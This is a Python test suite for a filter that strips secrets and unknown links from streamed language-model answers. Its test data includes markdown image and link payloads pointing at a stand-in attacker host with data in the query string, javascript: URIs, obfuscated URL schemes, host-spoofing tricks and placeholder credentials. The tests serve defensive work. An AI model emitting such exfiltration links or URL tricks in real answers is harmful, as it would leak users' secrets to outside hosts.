"""P9 and P11: what is shown depends on the text and not on how it was cut, and holds no secret and no stranger's address."""

import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from langchain_core.messages import AIMessageChunk
from langchain_core.runnables import RunnableGenerator
from markdown_it import MarkdownIt

from flows.answer_filter import (
    LINK,
    MAX_HELD_CHARS,
    SECRET,
    AnswerFilter,
    ShownText,
    shown_chunks,
    shown_text,
    without_secrets,
)
from flows.links import ANY_LINK, Links, links_of
from flows.secret_forms import is_card_number
from flows.streaming import storable_text

LINKS = links_of(["https://help.shop.example/returns"], texts=["Track it at https://parcels.example/t?x=1."], hosts=["Ok.Example"])
FAMILY = "\N{WOMAN}\u200d\N{WOMAN}\u200d\N{GIRL}"
KEY = "sk-" + "a1B2" * 6
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAKC\n-----END RSA PRIVATE KEY-----"
JWT = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"
CARD = "4111 1111 1111 1111"
SECRETS = (KEY, PEM, JWT, CARD, "AKIAABCDEFGHIJKLMNOP", "ghp_" + "x" * 36, "xoxb-1234567890-abc", f"Bearer {'t0k3n' * 5}")
PARTS = (
    *SECRETS,
    *("https://evil.example/a?b=c", "https://help.shop.example/x", "https://parcels.example/t?x=1", "www.evil.example", "ftp://e"),
    *(
        "[1]",
        "[here](https://evil.example)",
        "![p](//evil.example/(a)b)",
        "[s](https://help.shop.example/y 'title')",
        "](",
        "[x](a(b",
    ),
    *("h", "ht", "https:", "://", "sk", "sk-", "ey", "-----BEGIN ", "-----END ", "Bearer ", "4", "41", "12 ", "5555-", "999", "w"),
    *("[1]: //evil.example", "[1]: <https:\\//evil.example>", "]:", ":", "]"),
    *(FAMILY, "\ud83d", "\ude00", "\x00", "\u200d", "é", "word", "x", " ", "\n", ".", ")", "(", "@", "\\", "<", '"', "_"),
)
TEXT = st.lists(st.sampled_from(PARTS), max_size=12).map("".join)


@st.composite
def cut(draw, texts=TEXT):
    text = draw(texts)
    places = sorted(draw(st.lists(st.integers(0, len(text)), max_size=12)))
    return [text[begin:end] for begin, end in zip([0, *places], [*places, len(text)], strict=True)]


@settings(deadline=None)
@given(cut())
@example(["[a](b(", "c)) d"])
@example(["4111 1111 1111 1111 ", "5"])
@example(["[a]", ":/", "/b"])
@example(["ta", "sk-managementandsomething"])
def test_however_a_text_is_cut_what_is_shown_is_the_same(pieces):
    shown = ShownText(LINKS)
    assert "".join([*map(shown.feed, pieces), shown.flush()]) == shown_text("".join(pieces), LINKS)


@settings(deadline=None)
@given(st.lists(st.sampled_from([*PARTS, "a" * 700, "(" * 300, "9" * 40, "1 " * 30, "\N{WOMAN}" * 40]), max_size=12))
def test_no_more_is_held_back_than_a_bounded_tail(pieces):
    filter_, fed = AnswerFilter(LINKS), 0
    for piece in pieces:
        for character in storable_text(piece):
            filter_.feed(character)
            fed += 1
            assert len(filter_._text) <= MAX_HELD_CHARS


@settings(deadline=None)
@given(cut(st.text(st.sampled_from(["a", "b", " ", ",", "é", "日", "ש", "7", "\n", "["]), max_size=40)))
def test_plain_text_passes_as_it_is(pieces):
    shown = ShownText()
    assert "".join([*map(shown.feed, pieces), shown.flush()]) == "".join(pieces)


@settings(deadline=None)
@given(st.lists(st.sampled_from(PARTS), max_size=12), st.sampled_from([" ", ". ", "\n", ", "]))
def test_what_is_shown_holds_no_secret_and_no_address_that_is_not_known(parts, between):
    shown = shown_text(between.join(parts), LINKS)
    assert [secret for secret in SECRETS if secret in shown] == []
    assert "://evil" not in shown
    assert "evil.example)" not in shown


@settings(deadline=None)
@given(TEXT)
@example("[a]://b")
def test_what_may_be_shown_may_be_shown_again(text):
    once = shown_text(text, LINKS)
    assert shown_text(once, LINKS) == once


def test_a_model_reads_how_hosts_begin():
    assert without_secrets("Hosts begin with www. or m. Take sk-what?") == "Hosts begin with www. or m. Take sk-what?"
    once = without_secrets("www.4111 1111 1111 1111")
    assert without_secrets(once) == once


@settings(deadline=None)
@given(cut(st.lists(st.sampled_from([FAMILY, "\ud83d\udc69", "\ufe0f", "a", " "]), max_size=6).map("".join)))
def test_no_piece_ends_inside_an_emoji_or_half_a_character(pieces):
    """Case 4."""
    shown = ShownText(LINKS)
    told = [piece for piece in [*map(shown.feed, pieces), shown.flush()] if piece]
    for piece, following in pairwise(told):
        assert not (re.search("[^ a]\\Z", piece) and re.match("[^ a]", following))


def test_words_are_shown_as_they_come():
    shown = ShownText()
    assert [shown.feed(piece) for piece in ("Your", " order", " left", " us.")] == ["Your", " order", " left", " us."]


@pytest.mark.parametrize("secret", SECRETS)
def test_a_secret_goes_as_a_whole_and_the_text_around_it_stays(secret: str):
    assert shown_text(f"It is {secret} and so on.") == f"It is {SECRET} and so on."


@pytest.mark.parametrize(
    "text",
    [
        "task-sk-", "risk-management-and-something-long", "Bearer of news", "4111 1111 1111 1112",
        "order 4242", "ISBN 978-3-16-148410-0",
        "eyJ short", "AKIA", "-----", "a: b", "12:30", "and/or", "e.g. this", "W-2345678", "#W2611340", "2024-03-01 10:00",
    ],
)  # fmt: skip
def test_what_only_looks_like_it_stays(text: str):
    assert shown_text(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See https://evil.example/a?b=c.", f"See {LINK}."),
        ("(https://evil.example/a) ok", f"({LINK}) ok"),
        ("[here](https://evil.example) ok", "[here] ok"),
        ("![x](//evil.example/p.png?q=secret)", "![x]"),
        ("[x](javascript:alert(1)) y", "[x] y"),
        ("[x](//evil.example)(//evil.example) y", "[x] y"),
        ("[x](data:text/html,a", "[x] (data:text/html,a"),
        ("[x]: https://evil.example", f"[x] : {LINK}"),
        ("xhttps://evil.example", f"xhttps{LINK}"),
        ("WWW.evil.example", LINK),
        ("https://help.shop.example/x?y", "https://help.shop.example/x?y"),
        ("https://HELP.shop.example.", "https://HELP.shop.example."),
        ("[a](https://help.shop.example/x 'T') b", "[a](https://help.shop.example/x 'T') b"),
        ("https://parcels.example/t?x=1.", "https://parcels.example/t?x=1."),
        ("https://parcels.example/t?x=2.", f"{LINK}."),
        ("https://ok.example:8080/", "https://ok.example:8080/"),
        ("https://ok.example/go?to=https://evil.example", f"https://ok.example/go?to={LINK}"),
        (f"https://ok.example/?k={KEY}", f"https://ok.example/?k={SECRET}"),
    ],
)
def test_an_address_stays_where_its_host_or_all_of_it_is_known(text: str, shown: str):
    assert shown_text(text, LINKS) == shown


@pytest.mark.parametrize("said", ["![status][1]\n\n[1]: {}", "See [status].\n\n> [Status]: {}", "[1]:\n{}\n\n![1]"])
@pytest.mark.parametrize(
    "address",
    [
        "//evil.example/p?d=4321",
        "https:\\//evil.example/p?d=4321",
        "https&colon;//evil.example/p?d=4321",
        "https&#58;//evil.example/p?d=4321",
        "</\\/evil.example/p?d=4321>",
        "https://evil.example/p?d=4321",
    ],
)
def test_no_definition_gives_an_address_to_a_link_or_an_image(said: str, address: str):
    said = said.format(address)
    markdown = MarkdownIt("commonmark")
    assert "evil.example" in "".join(re.findall('(?:src|href)="[^"]*', markdown.render(said)))
    assert not re.findall("src=|href=", markdown.render(shown_text(said, LINKS)))


def test_a_model_reads_definitions_as_they_are():
    assert without_secrets(f"[1]: //ok.example {KEY}") == f"[1]: //ok.example {SECRET}"


@pytest.mark.parametrize(
    "trick",
    ["{}@evil.example", "{}:80@evil.example/", "{}\\@evil.example", "{}(@evil.example", "{}.evil.example", "{}。evil.example"],
)
def test_a_known_host_lends_its_name_to_no_other(trick: str):
    assert "ok.example" not in shown_text(trick.format("https://ok.example"), LINKS)


def test_a_long_address_goes_as_a_whole():
    assert shown_text(f"a https://evil.example/{'x' * 5000} b") == f"a {LINK} b"


def test_a_secret_that_another_one_touches_goes_too():
    assert shown_text(f"{CARD}{KEY}") == SECRET + SECRET


def test_a_key_that_never_ends_hides_what_follows():
    assert shown_text("-----BEGIN PRIVATE KEY-----\nMII\nMII") == SECRET


def test_what_was_removed_makes_no_link_of_what_follows():
    assert shown_text(f"[a]{KEY}(javascript:x)") == f"[a]{SECRET}(javascript:x)"
    assert "](" not in shown_text(f"{KEY}(x) [b]{KEY}")


@pytest.mark.parametrize("text", ["](" * 400_000, f"{KEY} " * 40_000])
def test_a_megabyte_that_a_stranger_wrote_is_read_once(text: str):
    """A search or a copy of the rest for each beginning would take longer than a test may."""
    shown = without_secrets(f"{KEY} {text}")
    assert shown == f"{SECRET} {text}".replace(KEY, SECRET)


def test_a_link_whose_brackets_stand_too_deep_within_each_other_is_none():
    assert shown_text(f"[a]({'(' * 20}{')' * 20}) b", LINKS) == "[a] b"
    assert shown_text(f"[a]({'(' * 40}{')' * 40}) b", LINKS).startswith("[a] ((")


def test_an_address_without_a_host_makes_nothing_known():
    assert links_of(["/returns", "", None, "http://[bad"]) == Links()


@pytest.mark.parametrize(("digits", "is_one"), [("4111111111111111", True), ("4111111111111112", False), ("378282246310005", True)])
def test_the_check_digit_tells_a_card_number(digits: str, is_one: bool):
    assert is_card_number(digits) is is_one


def _chunks(pieces):
    async def gen(_: object = None):
        for piece in pieces:
            yield AIMessageChunk(content=piece, id="run-1")

    return gen


async def test_four_tokens_are_four_chunks_and_the_first_comes_before_the_last_is_made():
    """Case 29: one plain function in a chain makes one chunk of a stream."""
    made: list[str] = []

    async def model():
        for piece in ("Dear ", "customer", ", all ", "is well."):
            made.append(piece)
            yield AIMessageChunk(content=piece, id="run-1")

    seen = [(chunk.text, len(made)) async for chunk in shown_chunks(model())]
    assert seen == [("Dear ", 1), ("customer", 2), (", all ", 3), ("is well.", 4)]
    steps = [chunk.text async for chunk in RunnableGenerator(shown_chunks).atransform(model())]
    assert len(steps) == 4


async def test_what_was_held_back_to_the_end_comes_in_a_chunk_of_the_same_turn():
    chunks = [chunk async for chunk in shown_chunks(_chunks([f"Hi {FAMILY}"])())]
    assert [(chunk.text, chunk.id) for chunk in chunks] == [("Hi ", "run-1"), (FAMILY, "run-1")]


@settings(deadline=None)
@given(TEXT)
def test_the_short_way_for_what_a_model_reads_is_the_long_way_and_leaves_addresses(text):
    assert without_secrets(text) == shown_text(text, ANY_LINK)
    assert without_secrets("See https://evil.example/a?b=c") == "See https://evil.example/a?b=c"
    assert without_secrets(f"See [x](https://evil.example/?k={KEY}) w") == f"See [x](https://evil.example/?k={SECRET}) w"
